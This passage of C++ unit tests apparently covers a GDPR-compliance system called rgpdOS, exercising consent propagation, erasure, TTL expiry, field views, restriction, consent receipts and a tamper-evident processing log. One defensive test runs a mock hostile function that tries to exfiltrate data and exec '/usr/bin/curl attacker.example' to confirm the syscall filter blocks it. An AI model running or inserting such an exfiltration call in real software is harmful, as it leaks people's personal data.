  ASSERT_TRUE(c2.ok());
  ASSERT_TRUE(os_->builtins().RevokeConsent(*c2, "purpose3").ok());
  for (dbfs::RecordId record :
       {original, c1->record_id, c2->record_id}) {
    EXPECT_EQ(os_->dbfs()
                  .GetMembrane(kDed, record)
                  ->consents.at("purpose3")
                  .kind,
              membrane::ConsentKind::kNone)
        << record;
  }
}

// E8: after erasure no plaintext byte survives on the device, the
// operator cannot reconstruct, the authority can.
TEST_F(EnforcementTest, E8_ErasureLeavesNoPlaintextButAuthorityRecovers) {
  const std::string secret = "E8_SECRET_PLAINTEXT_VALUE";
  const dbfs::RecordId record = PutUser(1, secret);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  for (std::size_t s = 0; s < os_->shard_count(); ++s) {
    EXPECT_EQ(blockdev::CountBlocksContaining(os_->dbfs_device(s),
                                              ToBytes(secret)),
              0u);
  }
  auto envelope = os_->dbfs().GetEnvelope(kDed, record);
  ASSERT_TRUE(envelope.ok());
  auto recovered = os_->authority().Recover(*envelope);
  ASSERT_TRUE(recovered.ok());
  EXPECT_TRUE(ContainsSubsequence(*recovered, ToBytes(secret)));
}

// E9: TTL expiry makes PD inaccessible to every purpose.
TEST_F(EnforcementTest, E9_TtlExpiryDeniesEveryPurpose) {
  const dbfs::RecordId record = PutUser(1, "a");
  os_->sim_clock()->Advance(kMicrosPerYear + 1);
  auto membrane = os_->dbfs().GetMembrane(kDed, record);
  ASSERT_TRUE(membrane.ok());
  for (const char* purpose : {"purpose1", "purpose3", "anything"}) {
    EXPECT_EQ(
        membrane->Evaluate(purpose, os_->clock().Now()).status().code(),
        StatusCode::kExpired)
        << purpose;
  }
}

// E10: a view exposes exactly the declared fields.
TEST_F(EnforcementTest, E10_ViewBoundsAreExact) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  auto id = os_->RegisterProcessingSource(
      "purpose purpose3 { input: user.v_ano; }",
      [](ProcessingInput& input) -> Result<ProcessingOutput> {
        EXPECT_EQ(input.visible_fields(),
                  std::set<std::string>{"year_of_birthdate"});
        EXPECT_TRUE(input.Has("year_of_birthdate"));
        EXPECT_FALSE(input.Has("name"));
        EXPECT_FALSE(input.Has("pwd"));
        EXPECT_TRUE(input.Field("year_of_birthdate").ok());
        EXPECT_EQ(input.Field("name").status().code(),
                  StatusCode::kConsentDenied);
        return ProcessingOutput{};
      },
      manifest);
  ASSERT_TRUE(id.ok());
  PutUser(1, "a");
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_processed, 1u);
}

// Bonus: the effective scope is the INTERSECTION of subject consent and
// purpose declaration (data minimisation both ways).
TEST_F(EnforcementTest, EffectiveScopeIsIntersection) {
  // purpose1 has consent `all`, but declares it only needs v_ano: the
  // implementation must still see only v_ano's fields.
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose1";
  manifest.fields_read = {"year_of_birthdate"};
  auto id = os_->RegisterProcessingSource(
      "purpose purpose1 { input: user.v_ano; }",
      [](ProcessingInput& input) -> Result<ProcessingOutput> {
        EXPECT_FALSE(input.Has("name"));  // consented all, requested v_ano
        EXPECT_TRUE(input.Has("year_of_birthdate"));
        return ProcessingOutput{};
      },
      manifest);
  ASSERT_TRUE(id.ok());
  PutUser(1, "a");
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_processed, 1u);
}

}  // namespace
}  // namespace rgpdos
