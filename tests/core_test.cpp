// Core rgpdOS tests: ps_register checks and the alert workflow, the DED
// pipeline's accounting and syscall filtering, built-ins (update, copy,
// consent propagation, both deletes), rights, and the processing log's
// hash chain.
#include <gtest/gtest.h>

#include "auditlog/segmented_log.hpp"
#include "core/rgpdos.hpp"
#include "dsl/parser.hpp"

namespace rgpdos::core {
namespace {

constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;
constexpr sentinel::Domain kSysadmin = sentinel::Domain::kSysadmin;
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

constexpr std::string_view kTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_name { name };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose2: none, purpose3: v_ano };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: low;
}
)";

constexpr std::string_view kPurpose3 = R"(
purpose purpose3 {
  input: user.v_ano;
  output: age;
  description: "compute age";
}
)";

Result<ProcessingOutput> ComputeAge(ProcessingInput& input) {
  ProcessingOutput output;
  if (!input.Has("year_of_birthdate")) return output;
  RGPD_ASSIGN_OR_RETURN(db::Value year, input.Field("year_of_birthdate"));
  output.derived_row = db::Row{db::Value(2026 - *year.AsInt())};
  return output;
}

class CoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    BootConfig config;
    config.use_sim_clock = true;
    auto os = RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok()) << os.status().ToString();
    os_ = std::move(os).value();
    ASSERT_TRUE(os_->DeclareTypes(kTypes).ok());
  }

  dbfs::RecordId PutUser(std::uint64_t subject, const std::string& name,
                         std::int64_t year) {
    auto type = os_->dbfs().GetType(kDed, "user");
    membrane::Membrane m =
        (*type)->DefaultMembrane(subject, os_->clock().Now());
    auto id = os_->dbfs().Put(
        kDed, subject, "user",
        db::Row{db::Value(name), db::Value(std::string("pw")),
                db::Value(year)},
        std::move(m));
    EXPECT_TRUE(id.ok());
    return *id;
  }

  ImplManifest GoodManifest() {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose3";
    manifest.fields_read = {"year_of_birthdate"};
    manifest.output_type = "age";
    return manifest;
  }

  std::unique_ptr<RgpdOs> os_;
};

// ---- ps_register ---------------------------------------------------------------

TEST_F(CoreTest, RegisterRejectsMissingPurpose) {
  ImplManifest manifest;  // no claimed purpose
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_FALSE(id.ok());
  EXPECT_EQ(id.status().code(), StatusCode::kPurposeMismatch);
}

TEST_F(CoreTest, RegisterRejectsWrongPurposeName) {
  ImplManifest manifest = GoodManifest();
  manifest.claimed_purpose = "something_else";
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  EXPECT_EQ(id.status().code(), StatusCode::kPurposeMismatch);
}

TEST_F(CoreTest, RegisterRejectsUnknownTypesAndViews) {
  ImplManifest manifest = GoodManifest();
  manifest.claimed_purpose = "p";
  EXPECT_FALSE(os_->RegisterProcessingSource(
                       "purpose p { input: nosuchtype; }", ComputeAge,
                       manifest)
                   .ok());
  EXPECT_EQ(os_->RegisterProcessingSource(
                    "purpose p { input: user.nosuchview; }", ComputeAge,
                    manifest)
                .status()
                .code(),
            StatusCode::kPurposeMismatch);
}

TEST_F(CoreTest, RegisterWithoutImplementationFails) {
  auto id = os_->RegisterProcessingSource(kPurpose3, nullptr,
                                          GoodManifest());
  EXPECT_EQ(id.status().code(), StatusCode::kInvalidArgument);
}

TEST_F(CoreTest, MismatchRaisesAlertRequiringSysadminApproval) {
  // Implementation claims to read a field outside the declared view.
  ImplManifest manifest = GoodManifest();
  manifest.fields_read = {"year_of_birthdate", "pwd"};
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(id.ok()) << id.status().ToString();
  EXPECT_FALSE(os_->ps().IsActive(*id));

  // Invocation is held while the alert is pending.
  auto held = os_->ps().Invoke(kApp, *id, {});
  EXPECT_EQ(held.status().code(), StatusCode::kFailedPrecondition);

  auto alerts = os_->ps().PendingAlerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_NE(alerts[0].reason.find("pwd"), std::string::npos);

  // Applications cannot approve their own alerts.
  EXPECT_EQ(os_->ps().ApproveAlert(kApp, alerts[0].id).code(),
            StatusCode::kAccessBlocked);
  // The sysadmin can.
  ASSERT_TRUE(os_->ps().ApproveAlert(kSysadmin, alerts[0].id).ok());
  EXPECT_TRUE(os_->ps().IsActive(*id));
  EXPECT_TRUE(os_->ps().PendingAlerts().empty());
  PutUser(1, "a", 1990);
  EXPECT_TRUE(os_->ps().Invoke(kApp, *id, {}).ok());
}

TEST_F(CoreTest, RejectedAlertRemovesProcessing) {
  ImplManifest manifest = GoodManifest();
  manifest.output_type = "user";  // claims to derive the wrong type
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(id.ok());
  auto alerts = os_->ps().PendingAlerts();
  ASSERT_EQ(alerts.size(), 1u);
  ASSERT_TRUE(os_->ps().RejectAlert(kSysadmin, alerts[0].id).ok());
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, {}).status().code(),
            StatusCode::kNotFound);
  // Resolving twice fails.
  EXPECT_EQ(os_->ps().ApproveAlert(kSysadmin, alerts[0].id).code(),
            StatusCode::kNotFound);
}

TEST_F(CoreTest, OnlyPsEntryPointsAreReachable) {
  // Outside domain cannot register or invoke.
  auto purpose = dsl::ParsePurpose(kPurpose3);
  ASSERT_TRUE(purpose.ok());
  auto id = os_->ps().Register(sentinel::Domain::kOutside, *purpose,
                               ComputeAge, GoodManifest());
  EXPECT_EQ(id.status().code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(os_->ps().Invoke(sentinel::Domain::kOutside, 1, {})
                .status()
                .code(),
            StatusCode::kAccessBlocked);
}

// ---- DED pipeline ---------------------------------------------------------------

TEST_F(CoreTest, StageTimingsArePopulated) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  const StageTimings& t = result->timings;
  EXPECT_GE(t.type2req_ns, 0);
  EXPECT_GT(t.load_membrane_ns, 0);
  EXPECT_GT(t.execute_ns, 0);
  EXPECT_GT(t.store_ns, 0);
  EXPECT_GT(t.total_ns(), 0);
}

TEST_F(CoreTest, SyscallFilterKillsHostileProcessing) {
  ProcessingFn hostile = [](ProcessingInput& input)
      -> Result<ProcessingOutput> {
    // Try to exfiltrate, then to exec.
    (void)input.syscalls().Write(ToBytes("stolen pd"));
    (void)input.syscalls().Exec("/usr/bin/curl attacker.example");
    return ProcessingOutput{};
  };
  auto id = os_->RegisterProcessingSource(kPurpose3, hostile, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  EXPECT_EQ(result.status().code(), StatusCode::kSyscallDenied);
  // The abort shows up in the processing log.
  bool aborted = false;
  for (const LogEntry& e : os_->processing_log().entries()) {
    aborted |= e.outcome == LogOutcome::kAborted;
  }
  EXPECT_TRUE(aborted);
}

TEST_F(CoreTest, DeniedSyscallsAreCountedButNotFatal) {
  ProcessingFn sneaky = [](ProcessingInput& input)
      -> Result<ProcessingOutput> {
    (void)input.syscalls().Write(ToBytes("try1"));
    (void)input.syscalls().Send(ToBytes("try2"));
    ProcessingOutput output;
    output.npd = ToBytes("legit result");
    return output;
  };
  auto id = os_->RegisterProcessingSource(kPurpose3, sneaky, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->syscalls_denied, 2u);
  EXPECT_EQ(result->records_processed, 1u);
}

TEST_F(CoreTest, TargetedInvokeChecksTypeCoherence) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  InvokeOptions options;
  options.target = PdRef{1, "age"};  // wrong type for purpose3
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, options).status().code(),
            StatusCode::kInvalidArgument);
}

TEST_F(CoreTest, DerivedMembraneInheritsStrictness) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  ASSERT_EQ(result->derived.size(), 1u);
  auto m = os_->dbfs().GetMembrane(kDed, result->derived[0].record_id);
  ASSERT_TRUE(m.ok());
  // The `age` type declares low sensitivity and no TTL, but the source
  // user record is high/1Y: derived PD keeps the stricter of the two.
  EXPECT_EQ(m->sensitivity, membrane::Sensitivity::kHigh);
  EXPECT_GT(m->ttl, 0);
  EXPECT_LE(m->created_at + m->ttl,
            os_->clock().Now() + kMicrosPerYear);
  EXPECT_EQ(m->origin, membrane::Origin::kDerived);
}

TEST_F(CoreTest, ProcessingErrorAborts) {
  ProcessingFn failing = [](ProcessingInput&) -> Result<ProcessingOutput> {
    return Internal("implementation bug");
  };
  auto id = os_->RegisterProcessingSource(kPurpose3, failing, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, {}).status().code(),
            StatusCode::kInternal);
}

// ---- Builtins --------------------------------------------------------------------

TEST_F(CoreTest, BuiltinUpdateAndRectification) {
  const dbfs::RecordId id = PutUser(1, "typo_name", 1990);
  db::Row fixed{db::Value(std::string("fixed")), db::Value(std::string("pw")),
                db::Value(std::int64_t{1990})};
  ASSERT_TRUE(os_->rights().Rectify(PdRef{id, "user"}, fixed).ok());
  EXPECT_EQ(*os_->dbfs().Get(kDed, id)->row[0].AsString(), "fixed");
}

TEST_F(CoreTest, BuiltinCopySharesCopyGroupAndPropagatesConsent) {
  const dbfs::RecordId id = PutUser(1, "alice", 1990);
  auto copy = os_->builtins().Copy(PdRef{id, "user"});
  ASSERT_TRUE(copy.ok()) << copy.status().ToString();
  const auto m1 = os_->dbfs().GetMembrane(kDed, id);
  const auto m2 = os_->dbfs().GetMembrane(kDed, copy->record_id);
  ASSERT_TRUE(m1.ok() && m2.ok());
  EXPECT_EQ(m1->copy_group, m2->copy_group);

  // Revoking consent through EITHER ref reaches both membranes (E7).
  ASSERT_TRUE(os_->builtins().RevokeConsent(*copy, "purpose1").ok());
  EXPECT_EQ(os_->dbfs().GetMembrane(kDed, id)->consents.at("purpose1").kind,
            membrane::ConsentKind::kNone);
  EXPECT_EQ(os_->dbfs()
                .GetMembrane(kDed, copy->record_id)
                ->consents.at("purpose1")
                .kind,
            membrane::ConsentKind::kNone);

  // Granting propagates too.
  ASSERT_TRUE(os_->builtins()
                  .GrantConsent(PdRef{id, "user"}, "purpose2",
                                membrane::Consent::ForView("v_name"))
                  .ok());
  EXPECT_EQ(os_->dbfs()
                .GetMembrane(kDed, copy->record_id)
                ->consents.at("purpose2")
                .view,
            "v_name");
}

TEST_F(CoreTest, CopyOfErasedRecordFails) {
  const dbfs::RecordId id = PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->builtins()
                  .EraseWithHold(PdRef{id, "user"},
                                 os_->authority().public_key())
                  .ok());
  EXPECT_EQ(os_->builtins().Copy(PdRef{id, "user"}).status().code(),
            StatusCode::kErased);
}

TEST_F(CoreTest, HardDeleteBuiltin) {
  const dbfs::RecordId id = PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->builtins().HardDelete(PdRef{id, "user"}).ok());
  EXPECT_FALSE(os_->dbfs().Get(kDed, id).ok());
}

// ---- Rights -----------------------------------------------------------------------

TEST_F(CoreTest, ForgetErasesEveryRecordOfSubjectOnly) {
  PutUser(1, "victim_a", 1990);
  PutUser(1, "victim_b", 1991);
  const dbfs::RecordId other = PutUser(2, "bystander", 1992);
  auto erased = os_->RightToBeForgotten(1);
  ASSERT_TRUE(erased.ok());
  EXPECT_EQ(*erased, 2u);
  // Idempotent: nothing left to erase.
  EXPECT_EQ(*os_->RightToBeForgotten(1), 0u);
  // The bystander's record is untouched.
  EXPECT_FALSE(os_->dbfs().Get(kDed, other)->erased);
}

TEST_F(CoreTest, PortabilityExcludesErasedRecords) {
  PutUser(1, "exportable", 1990);
  const dbfs::RecordId gone = PutUser(1, "erased_one", 1991);
  ASSERT_TRUE(os_->builtins()
                  .EraseWithHold(PdRef{gone, "user"},
                                 os_->authority().public_key())
                  .ok());
  auto exported = os_->RightToPortability(1);
  ASSERT_TRUE(exported.ok());
  EXPECT_NE(exported->find("exportable"), std::string::npos);
  EXPECT_EQ(exported->find("erased_one"), std::string::npos);
}

TEST_F(CoreTest, AccessReportIncludesFilteredProcessings) {
  constexpr std::string_view kPurpose2 = R"(
purpose purpose2 { input: user; }
)";
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose2";
  auto id = os_->RegisterProcessingSource(kPurpose2,
                                          [](ProcessingInput&)
                                              -> Result<ProcessingOutput> {
                                            return ProcessingOutput{};
                                          },
                                          manifest);
  ASSERT_TRUE(id.ok());
  PutUser(5, "eve", 1990);
  ASSERT_TRUE(os_->ps().Invoke(kApp, *id, {}).ok());
  auto report = os_->RightOfAccess(5);
  ASSERT_TRUE(report.ok());
  // The subject sees that purpose2 tried and was filtered.
  EXPECT_NE(report->find("\"outcome\":\"filtered\""), std::string::npos);
}


// ---- TTL scavenger + portability transfer ------------------------------------------

TEST_F(CoreTest, ScavengerErasesOnlyExpiredRecords) {
  PutUser(1, "expiring", 1990);
  os_->sim_clock()->Advance(kMicrosPerYear / 2);
  const dbfs::RecordId fresh = PutUser(2, "fresh", 1991);
  // Advance so subject 1's record (age: 1Y) expires but subject 2's
  // half-year-old record does not.
  os_->sim_clock()->Advance(kMicrosPerYear / 2 + 1);

  auto scavenged =
      os_->builtins().ScavengeExpired(os_->authority().public_key());
  ASSERT_TRUE(scavenged.ok()) << scavenged.status().ToString();
  EXPECT_EQ(*scavenged, 1u);
  EXPECT_FALSE(os_->dbfs().Get(kDed, fresh)->erased);
  // Expired plaintext is gone from every shard's device.
  for (std::size_t s = 0; s < os_->shard_count(); ++s) {
    EXPECT_EQ(blockdev::CountBlocksContaining(os_->dbfs_device(s),
                                              ToBytes("expiring")),
              0u);
  }
  // Idempotent.
  EXPECT_EQ(*os_->builtins().ScavengeExpired(os_->authority().public_key()),
            0u);
}

TEST_F(CoreTest, PortabilityTransfersToAnotherOperator) {
  PutUser(9, "mover", 1980);
  auto exported = os_->dbfs().ExportSubject(kDed, 9);
  ASSERT_TRUE(exported.ok());

  // A second, independent operator with the same declared types.
  BootConfig config;
  config.use_sim_clock = true;
  auto other = RgpdOs::Boot(config);
  ASSERT_TRUE(other.ok());
  ASSERT_TRUE((*other)->DeclareTypes(kTypes).ok());

  auto imported = (*other)->rights().ImportSubject(*exported);
  ASSERT_TRUE(imported.ok()) << imported.status().ToString();
  EXPECT_EQ(*imported, 1u);

  auto records = (*other)->dbfs().RecordsOfSubject(kDed, 9);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 1u);
  auto record = (*other)->dbfs().Get(kDed, (*records)[0]);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record->row[0].AsString(), "mover");
  // Consents and TTL traveled; provenance reflects the transfer.
  EXPECT_EQ(record->membrane.origin, membrane::Origin::kThirdParty);
  EXPECT_EQ(record->membrane.ttl, kMicrosPerYear);
  EXPECT_EQ(record->membrane.consents.at("purpose3").view, "v_ano");
  // The import shows in the receiving operator's processing log.
  EXPECT_FALSE((*other)->processing_log().ForSubject(9).empty());
}

TEST_F(CoreTest, ImportSkipsErasedAndUnknownTypes) {
  PutUser(3, "gone", 1970);
  ASSERT_TRUE(os_->RightToBeForgotten(3).ok());
  auto exported = os_->dbfs().ExportSubject(kDed, 3);
  ASSERT_TRUE(exported.ok());

  BootConfig config;
  config.use_sim_clock = true;
  auto other = RgpdOs::Boot(config);
  ASSERT_TRUE(other.ok());
  ASSERT_TRUE((*other)->DeclareTypes(kTypes).ok());
  // Erased records do not travel.
  EXPECT_EQ(*(*other)->rights().ImportSubject(*exported), 0u);

  // Unknown target type is an error, not a silent guess.
  auto fresh_export = [&] {
    PutUser(4, "x", 1990);
    return *os_->dbfs().ExportSubject(kDed, 4);
  }();
  auto bare = RgpdOs::Boot(config);
  ASSERT_TRUE(bare.ok());  // no types declared
  EXPECT_FALSE((*bare)->rights().ImportSubject(fresh_export).ok());
}


// ---- DED predicates -------------------------------------------------------------------

TEST_F(CoreTest, PredicatesFilterInsideTheDed) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "young", 2005);
  PutUser(2, "old", 1950);
  PutUser(3, "middle", 1985);

  InvokeOptions options;
  FieldPredicate predicate;
  predicate.field = "year_of_birthdate";
  predicate.op = FieldPredicate::Op::kLt;
  predicate.value = db::Value(std::int64_t{1990});
  options.predicates.push_back(predicate);

  auto result = os_->ps().Invoke(kApp, *id, options);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->records_considered, 3u);
  EXPECT_EQ(result->records_processed, 2u);     // 1950, 1985
  EXPECT_EQ(result->records_filtered_out, 1u);  // 2005
  // The predicate-filtered subject sees it in their history.
  bool logged = false;
  for (const LogEntry& e : os_->processing_log().ForSubject(1)) {
    logged |= e.outcome == LogOutcome::kFiltered &&
              e.detail == "row predicate";
  }
  EXPECT_TRUE(logged);
}

TEST_F(CoreTest, PredicatesCannotProbeHiddenFields) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "alice", 1990);
  InvokeOptions options;
  FieldPredicate predicate;
  predicate.field = "pwd";  // outside v_ano
  predicate.op = FieldPredicate::Op::kEq;
  predicate.value = db::Value(std::string("hunter2"));
  options.predicates.push_back(predicate);
  auto result = os_->ps().Invoke(kApp, *id, options);
  EXPECT_EQ(result.status().code(), StatusCode::kPermissionDenied);
}

TEST_F(CoreTest, PredicateOperatorsBehave) {
  const db::Value five{std::int64_t{5}};
  FieldPredicate p;
  p.value = db::Value(std::int64_t{5});
  p.op = FieldPredicate::Op::kEq;
  EXPECT_TRUE(p.Matches(five));
  p.op = FieldPredicate::Op::kNe;
  EXPECT_FALSE(p.Matches(five));
  p.op = FieldPredicate::Op::kLe;
  EXPECT_TRUE(p.Matches(five));
  p.op = FieldPredicate::Op::kLt;
  EXPECT_FALSE(p.Matches(five));
  p.op = FieldPredicate::Op::kGe;
  EXPECT_TRUE(p.Matches(five));
  p.op = FieldPredicate::Op::kGt;
  EXPECT_FALSE(p.Matches(db::Value(std::int64_t{4})));
  EXPECT_FALSE(p.Matches(five));
  EXPECT_TRUE(p.Matches(db::Value(std::int64_t{6})));
}


// ---- Restriction of processing (Art. 18) -------------------------------------------

TEST_F(CoreTest, RestrictionFreezesEveryPurposeButKeepsTheData) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  const dbfs::RecordId record = PutUser(1, "contested", 1990);

  ASSERT_TRUE(os_->builtins()
                  .Restrict(PdRef{record, "user"},
                            "subject contests accuracy")
                  .ok());
  // The membrane denies every purpose with the dedicated status.
  auto m = os_->dbfs().GetMembrane(kDed, record);
  ASSERT_TRUE(m.ok());
  EXPECT_TRUE(m->restricted);
  EXPECT_EQ(m->Evaluate("purpose3", os_->clock().Now()).status().code(),
            StatusCode::kRestricted);
  // The DED filters it out; the data itself stays readable by the DED.
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_filtered_out, 1u);
  EXPECT_EQ(result->records_processed, 0u);
  EXPECT_EQ(*os_->dbfs().Get(kDed, record)->row[0].AsString(), "contested");

  // Lifting the restriction restores processing.
  ASSERT_TRUE(os_->builtins().LiftRestriction(PdRef{record, "user"}).ok());
  result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_processed, 1u);
}

TEST_F(CoreTest, RestrictionPropagatesAcrossCopies) {
  const dbfs::RecordId original = PutUser(1, "a", 1990);
  auto copy = os_->builtins().Copy(PdRef{original, "user"});
  ASSERT_TRUE(copy.ok());
  ASSERT_TRUE(
      os_->builtins().Restrict(PdRef{original, "user"}, "objection").ok());
  EXPECT_TRUE(os_->dbfs().GetMembrane(kDed, copy->record_id)->restricted);
  // The restriction appears in the subject's processing history.
  bool logged = false;
  for (const LogEntry& e : os_->processing_log().ForSubject(1)) {
    logged |= e.outcome == LogOutcome::kRestricted;
  }
  EXPECT_TRUE(logged);
}

TEST_F(CoreTest, RestrictedRecordsStillExportAndStillErase) {
  const dbfs::RecordId record = PutUser(6, "frozen", 1990);
  ASSERT_TRUE(
      os_->builtins().Restrict(PdRef{record, "user"}, "legal claim").ok());
  // Right of access still works (Art. 18 restricts processing, not the
  // subject's own rights).
  auto report = os_->RightOfAccess(6);
  ASSERT_TRUE(report.ok());
  EXPECT_NE(report->find("frozen"), std::string::npos);
  // Erasure still works.
  EXPECT_EQ(*os_->RightToBeForgotten(6), 1u);
}


// ---- Consent receipts (Art. 7) ----------------------------------------------------

TEST_F(CoreTest, ReceiptIsIssuedAndVerifiable) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  auto receipt =
      os_->RevokeConsentWithReceipt(PdRef{record, "user"}, "purpose1");
  ASSERT_TRUE(receipt.ok()) << receipt.status().ToString();
  EXPECT_EQ(receipt->subject_id, 1u);
  EXPECT_EQ(receipt->action, "revoke");
  EXPECT_GT(receipt->membrane_version, 0u);
  EXPECT_TRUE(os_->receipts().Verify(*receipt));
  // The revocation actually happened.
  EXPECT_EQ(os_->dbfs()
                .GetMembrane(kDed, record)
                ->consents.at("purpose1")
                .kind,
            membrane::ConsentKind::kNone);
}

TEST_F(CoreTest, TamperedReceiptFailsVerification) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  auto receipt =
      os_->RevokeConsentWithReceipt(PdRef{record, "user"}, "purpose1");
  ASSERT_TRUE(receipt.ok());
  ConsentReceipt forged = *receipt;
  forged.action = "grant";  // the subject "never revoked"
  EXPECT_FALSE(os_->receipts().Verify(forged));
  forged = *receipt;
  forged.subject_id = 999;
  EXPECT_FALSE(os_->receipts().Verify(forged));
}

TEST_F(CoreTest, ReceiptSerializationRoundTrip) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  auto receipt =
      os_->RevokeConsentWithReceipt(PdRef{record, "user"}, "purpose3");
  ASSERT_TRUE(receipt.ok());
  auto decoded = ConsentReceipt::Deserialize(receipt->Serialize());
  ASSERT_TRUE(decoded.ok());
  EXPECT_TRUE(os_->receipts().Verify(*decoded));
  EXPECT_EQ(decoded->purpose, "purpose3");
  // A different operator's key rejects it.
  ReceiptIssuer other(ToBytes("some other operator key"), os_->sim_clock());
  EXPECT_FALSE(other.Verify(*decoded));
}

// ---- Processing log ------------------------------------------------------------------

TEST_F(CoreTest, LogChainDetectsTampering) {
  PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  ProcessingLog& log = os_->processing_log();
  ASSERT_FALSE(log.entries().empty());
  EXPECT_TRUE(log.VerifyChain());
  // Tamper with an entry (const_cast simulates an attacker editing RAM).
  auto& entry = const_cast<LogEntry&>(log.entries().front());
  entry.purpose = "innocent_purpose";
  EXPECT_FALSE(log.VerifyChain());
}

TEST_F(CoreTest, LogQueriesBySubjectAndRecord) {
  const dbfs::RecordId a = PutUser(1, "a", 1990);
  PutUser(2, "b", 1991);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  EXPECT_FALSE(os_->processing_log().ForSubject(1).empty());
  EXPECT_TRUE(os_->processing_log().ForSubject(99).empty());
  EXPECT_FALSE(os_->processing_log().ForRecord(a).empty());
}


// ---- Runtime purpose verification (paper §3(4), dynamic attack) -------------------

TEST_F(CoreTest, RuntimeVerifierCatchesUnderDeclaredManifest) {
  // Purpose declares the full type; the manifest claims the
  // implementation only reads year_of_birthdate — but it also reads the
  // name. The registration-time check cannot see that; the runtime
  // verifier can.
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose1";
  manifest.fields_read = {"year_of_birthdate"};
  ProcessingFn liar = [](ProcessingInput& input) -> Result<ProcessingOutput> {
    (void)input.Field("year_of_birthdate");
    (void)input.Field("name");  // beyond the manifest
    return ProcessingOutput{};
  };
  auto id = os_->RegisterProcessingSource(
      "purpose purpose1 { input: user; }", liar, manifest);
  ASSERT_TRUE(id.ok()) << id.status().ToString();
  ASSERT_TRUE(os_->ps().IsActive(*id));
  PutUser(1, "a", 1990);

  auto result = os_->ps().Invoke(kApp, *id, {});
  EXPECT_EQ(result.status().code(), StatusCode::kPurposeMismatch);
  // The processing is deactivated and a runtime alert is pending.
  EXPECT_FALSE(os_->ps().IsActive(*id));
  auto alerts = os_->ps().PendingAlerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_TRUE(alerts[0].runtime);
  EXPECT_NE(alerts[0].reason.find("name"), std::string::npos);
  // Re-invocation is held until the sysadmin decides.
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, {}).status().code(),
            StatusCode::kFailedPrecondition);
  // The sysadmin may accept the overreach explicitly...
  ASSERT_TRUE(os_->ps().ApproveAlert(kSysadmin, alerts[0].id).ok());
  EXPECT_TRUE(os_->ps().IsActive(*id));
}

TEST_F(CoreTest, RuntimeVerifierPassesHonestImplementations) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  // Several invocations run clean; no alert ever appears.
  for (int i = 0; i < 5; ++i) {
    auto result = os_->ps().Invoke(kApp, *id, {});
    ASSERT_TRUE(result.ok()) << result.status().ToString();
  }
